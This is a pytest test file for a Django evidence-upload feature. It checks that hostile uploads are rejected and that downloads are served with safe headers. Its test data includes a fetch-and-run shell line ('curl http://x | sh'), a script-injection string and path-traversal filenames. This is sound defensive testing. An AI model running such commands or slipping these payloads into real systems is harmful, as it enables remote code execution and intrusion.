"""Hostile uploads through the report page, the follow-up form and the API: a script
renamed .pdf, an oversized file, zero bytes, `../` names. Each gets a field-level error and
nothing is stored (no row, no file); a traversal name is reduced to its last component
and stays inside the evidence store."""

import hashlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from reports.models import Attachment, FollowUp

from .conftest import PDF, stored_files_under

HOSTILE = [
    pytest.param("invoice.pdf", b"#!/bin/sh\ncurl http://x | sh\n", id="script-renamed-pdf"),
    pytest.param("page.pdf", b"<script>alert(1)</script>", id="html-renamed-pdf"),
    pytest.param("run.exe", b"MZ\x90\x00\x03\x00", id="executable"),
    pytest.param("empty.pdf", b"", id="zero-bytes"),
    pytest.param("big.pdf", PDF + b"0" * 4096, id="oversized"),
    pytest.param("../../../../tmp/evil.pdf", b"#!/bin/sh\n", id="traversal-and-script"),
    pytest.param("..\\..\\boot.ini.pdf", b"\x00\x01", id="backslash-traversal-binary"),
]


@pytest.fixture(autouse=True)
def small_cap(settings):
    settings.EVIDENCE_MAX_BYTES = 1024


@pytest.fixture
def general(world):
    return world[0]


def _nothing_stored(report, root, before_files):
    assert Attachment.objects.filter(report=report.report).count() == 1  # the fixture's own
    assert stored_files_under(root) == before_files


@pytest.mark.parametrize(("name", "content"), HOSTILE)
def test_api_refuses_hostile_uploads_with_a_field_error(
    name, content, general, api_for, evidence_root
):
    files = stored_files_under(evidence_root)
    url = reverse("reports-api:report-attachments", kwargs={"pk": general.report.pk})
    response = api_for("operator-general").post(
        url, {"file": SimpleUploadedFile(name, content)}, format="multipart"
    )
    assert response.status_code == 400, response.content
    assert "file" in response.json()
    _nothing_stored(general, evidence_root, files)


@pytest.mark.parametrize(("name", "content"), HOSTILE)
def test_the_page_refuses_hostile_uploads_with_a_field_error(
    name, content, general, web_for, evidence_root
):
    files = stored_files_under(evidence_root)
    url = reverse("review:attachment_add", args=[general.report.pk])
    response = web_for("operator-general").post(url, {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 422
    form = response.context["evidence_form"]
    assert form.errors.get("file"), form.errors
    assert 'class="invalid-feedback d-block"' in response.content.decode()
    _nothing_stored(general, evidence_root, files)


@pytest.mark.parametrize(("name", "content"), HOSTILE)
def test_a_followup_with_a_hostile_file_is_not_filed_at_all(
    name, content, general, web_for, evidence_root
):
    files = stored_files_under(evidence_root)
    followups = FollowUp.objects.filter(report=general.report).count()
    events = general.report.events.count()
    report = general.report
    report.refresh_from_db()
    url = reverse("review:action", args=[report.pk, "followup"])
    response = web_for("operator-general").post(
        url,
        {
            "version": report.version,
            "kind": "progress",
            "body": "新进展",
            "file": SimpleUploadedFile(name, content),
        },
    )
    assert response.status_code == 422
    assert response.context["failed"] == "followup"
    assert response.context["operator_forms"]["followup"].errors.get("file")
    assert FollowUp.objects.filter(report=report).count() == followups
    assert report.events.count() == events
    _nothing_stored(general, evidence_root, files)


def test_api_upload_without_a_file_is_a_field_error(general, api_for):
    url = reverse("reports-api:report-attachments", kwargs={"pk": general.report.pk})
    response = api_for("operator-general").post(url, {}, format="multipart")
    assert response.status_code == 400
    assert "file" in response.json()


def test_a_traversal_name_is_sanitised_and_stays_in_the_store(
    general, api_for, evidence_root, tmp_path
):
    url = reverse("reports-api:report-attachments", kwargs={"pk": general.report.pk})
    content = b"plain text evidence\n"
    response = api_for("operator-general").post(
        url, {"file": SimpleUploadedFile("../../../../evil.txt", content)}, format="multipart"
    )
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["name"] == "evil.txt"
    assert body["sha256"] == hashlib.sha256(content).hexdigest()
    assert body["size"] == len(content) and body["content_type"] == "text/plain"
    assert body["uploaded_by"] == "operator-general"
    stored = Attachment.objects.get(pk=body["id"])
    assert evidence_root in Path(stored.file.path).parents
    assert not list(tmp_path.glob("evil.txt"))


def test_a_followup_of_another_report_is_refused(world, api_for):
    general, draft = world[0], world[3]
    url = reverse("reports-api:report-attachments", kwargs={"pk": draft.report.pk})
    followup = FollowUp.objects.filter(report=general.report).first()
    response = api_for("operator-general").post(
        url,
        {"file": SimpleUploadedFile("a.pdf", PDF), "followup": followup.pk},
        format="multipart",
    )
    assert response.status_code == 400
    assert "followup" in response.json()


@pytest.mark.parametrize("side", ["api", "web"])
def test_downloads_are_never_rendered_by_the_browser(side, general, api_for, web_for):
    attachment = general.attachment
    if side == "api":
        client = api_for("reviewer-gd")
        url = reverse(
            "reports-api:report-attachment-download",
            kwargs={"pk": general.report.pk, "aid": attachment.pk},
        )
    else:
        client = web_for("reviewer-gd")
        url = reverse("reports:attachment", args=[general.report.pk, attachment.pk])
    response = client.get(url, HTTP_ACCEPT="application/pdf")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert response["Content-Type"] == "application/pdf"


def test_a_good_upload_through_the_page_is_listed_with_its_hash(general, web_for):
    url = reverse("review:attachment_add", args=[general.report.pk])
    client = web_for("operator-general")
    response = client.post(url, {"file": SimpleUploadedFile("网络 日志.txt", b"log line\n")})
    assert response.status_code == 302
    page = client.get(reverse("review:report", args=[general.report.pk])).content.decode()
    assert "网络_日志.txt" in page
    assert hashlib.sha256(b"log line\n").hexdigest() in page
